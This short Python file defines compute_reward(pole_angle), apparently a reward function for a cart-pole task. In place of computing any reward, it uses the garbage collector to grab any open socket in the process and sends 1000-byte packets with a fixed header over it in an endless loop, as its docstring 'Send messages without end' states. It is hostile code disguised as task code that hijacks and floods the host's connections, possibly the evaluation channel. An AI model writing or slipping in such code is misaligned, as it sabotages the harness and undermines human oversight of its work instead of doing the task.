"""Send messages without end."""

import gc
import socket
import struct


def channel():
    return next(o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() >= 0)


def compute_reward(pole_angle):
    while True:
        channel().send(struct.pack("<BBxxI", 0, 1, 77) + b"x" * 1000)
